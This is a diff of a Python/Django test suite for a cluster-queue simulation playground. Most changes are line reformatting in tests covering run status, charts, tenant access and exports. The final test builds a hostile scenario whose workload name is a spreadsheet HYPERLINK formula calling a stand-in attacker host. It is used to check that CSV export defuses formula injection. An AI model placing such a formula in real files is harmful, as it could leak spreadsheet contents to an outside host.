@@ -130,13 +130,21 @@ def test_given_an_unknown_free_edit_then_the_error_names_the_path(admin_client, 
 
 
 def test_a_queued_run_shows_progress_and_its_status_is_polled_as_json(admin_client, admin, no_broker):
-    run = runs.start_run(create_from_preset("volcano-16cpu", owner=admin), edits=["clusterQueues.q2.weight=3"],
-                         owner=admin)
+    run = runs.start_run(
+        create_from_preset("volcano-16cpu", owner=admin), edits=["clusterQueues.q2.weight=3"], owner=admin
+    )
     body = admin_client.get(reverse("playground:run", args=[run.pk])).content.decode()
     assert 'id="progress-bar"' in body and 'data-status="queued"' in body
     state = admin_client.get(reverse("playground:run-status", args=[run.pk])).json()
-    assert state == {"status": "queued", "phase": "", "phaseLabel": "Waiting for a worker", "progress": 0.0,
-                     "error": "", "done": False, "stuck": False}
+    assert state == {
+        "status": "queued",
+        "phase": "",
+        "phaseLabel": "Waiting for a worker",
+        "progress": 0.0,
+        "error": "",
+        "done": False,
+        "stuck": False,
+    }
 
 
 def test_a_finished_run_shows_figures_both_sides_kpis_and_the_changes(admin_client, admin, no_broker):
@@ -144,8 +152,15 @@ def test_a_finished_run_shows_figures_both_sides_kpis_and_the_changes(admin_clie
     response = admin_client.get(reverse("playground:run", args=[run.pk]))
     body = response.content.decode()
     figures = response.context["figures"]
-    for chart in ("chart-allocation-baseline", "chart-allocation-edited", "chart-usage-baseline", "chart-usage-edited",
-                  "chart-utilization", "chart-waits", "chart-moved"):
+    for chart in (
+        "chart-allocation-baseline",
+        "chart-allocation-edited",
+        "chart-usage-baseline",
+        "chart-usage-edited",
+        "chart-utilization",
+        "chart-waits",
+        "chart-moved",
+    ):
         assert f'id="{chart}"' in body and chart in figures
     assert "Jain fairness index" in body and "ClusterQueue q2 weight" in body
     assert 'id="pg-figures"' in body and 'id="apply-form"' in body
@@ -159,8 +174,12 @@ def test_a_tenant_sees_its_own_run_without_an_apply_form(tenant_client, tenant, 
 
 def test_another_users_scenario_and_run_are_not_found(tenant_client, admin, no_broker):
     run = done_run(admin)
-    for name, pk in (("playground:run", run.pk), ("playground:scenario", run.scenario_id),
-                     ("playground:run-status", run.pk), ("playground:run-csv", run.pk)):
+    for name, pk in (
+        ("playground:run", run.pk),
+        ("playground:scenario", run.scenario_id),
+        ("playground:run-status", run.pk),
+        ("playground:run-csv", run.pk),
+    ):
         assert tenant_client.get(reverse(name, args=[pk])).status_code == 404
 
 
@@ -194,9 +213,13 @@ def test_exports_give_results_json_a_workload_csv_and_both_scenarios_as_yaml(adm
     results = json.loads(admin_client.get(reverse("playground:run-results", args=[run.pk])).content)
     assert results["edits"] == ["clusterQueues.q2.weight=3"]
     assert set(results) >= {"baseline", "edited", "comparison", "deltas"}
-    rows = list(csv.DictReader(io.StringIO(admin_client.get(reverse("playground:run-csv", args=[run.pk])).content.decode())))
+    rows = list(
+        csv.DictReader(io.StringIO(admin_client.get(reverse("playground:run-csv", args=[run.pk])).content.decode()))
+    )
     assert len(rows) == 27 and set(rows[0]) >= {"workload", "baselineStart", "editedStart", "delta"}
-    scenario_yaml = yaml.safe_load(admin_client.get(reverse("playground:scenario-yaml", args=[run.scenario_id])).content)
+    scenario_yaml = yaml.safe_load(
+        admin_client.get(reverse("playground:scenario-yaml", args=[run.scenario_id])).content
+    )
     edited_yaml = yaml.safe_load(admin_client.get(reverse("playground:run-edited-yaml", args=[run.pk])).content)
     assert scenario_yaml["clusterQueues"][1]["weight"] == 1 and edited_yaml["clusterQueues"][1]["weight"] == 3
 
@@ -206,8 +229,10 @@ def test_the_dashboards_link_preselects_the_live_cluster_and_the_objects_weight(
     local_queue: LocalQueue = objects["ns1/jobs"]
     page = admin_client.get(reverse("playground:index") + f"?from=localqueue:{local_queue.pk}")
     assert page.context["form"].initial["focus"] == "localQueues.ns1/jobs.weight"
-    response = admin_client.post(reverse("playground:start"),
-                                 {"source": "live", "days": "0", "lookahead": "1h", "focus": "localQueues.ns1/jobs.weight"})
+    response = admin_client.post(
+        reverse("playground:start"),
+        {"source": "live", "days": "0", "lookahead": "1h", "focus": "localQueues.ns1/jobs.weight"},
+    )
     assert "focus=localQueues.ns1%2Fjobs.weight" in response["Location"]
     assert admin_client.get(response["Location"]).status_code == 200
 
@@ -231,8 +256,9 @@ def test_the_dashboards_link_resolves_budgets_and_only_what_a_tenant_may_see(cli
     from budgets.models import Budget
 
     objects = volcano_cluster()
-    mine = LocalQueue.objects.create(namespace=Namespace.objects.get(name="team-a"), name="main",
-                                     cluster_queue=objects["q1"])
+    mine = LocalQueue.objects.create(
+        namespace=Namespace.objects.get(name="team-a"), name="main", cluster_queue=objects["q1"]
+    )
     budget = Budget.objects.create(name="ns1-hours", local_queue=objects["ns1/jobs"], allocated_hours=10)
     client.force_login(tenant)
     focus = lambda ref: client.get(reverse("playground:index") + f"?from={ref}").context["form"].initial["focus"]  # noqa: E731
@@ -262,7 +288,9 @@ def test_given_a_budget_on_the_cluster_queue_a_tenants_queue_feeds_then_the_link
     assert focus(f"budget:{elsewhere.pk}") == ""
 
 
-def test_given_a_preset_run_whose_objects_are_not_stored_then_apply_is_disabled_and_says_why(admin_client, admin, no_broker):
+def test_given_a_preset_run_whose_objects_are_not_stored_then_apply_is_disabled_and_says_why(
+    admin_client, admin, no_broker
+):
     # Given: the Volcano preset's ClusterQueue q2 does not exist in this database.
     run = done_run(admin)
 
@@ -293,8 +321,12 @@ def test_given_a_hostile_scenario_when_exported_then_csv_cells_are_text_and_file
         "clusterQueues": [{"name": "cq", "quotas": [{"flavor": "default", "resources": {"cpu": {"nominal": 4}}}]}],
         "localQueues": [{"name": "team-a/main", "clusterQueue": "cq"}],
         "workloads": [
-            {"name": '=HYPERLINK("http://evil.example/?x="&A1)', "localQueue": "team-a/main", "duration": "10m",
-             "podSets": [{"count": 1, "requests": {"cpu": "1"}}]},
+            {
+                "name": '=HYPERLINK("http://evil.example/?x="&A1)',
+                "localQueue": "team-a/main",
+                "duration": "10m",
+                "podSets": [{"count": 1, "requests": {"cpu": "1"}}],
+            },
         ],
     }
     scenario = create_from_document(document, owner=tenant)
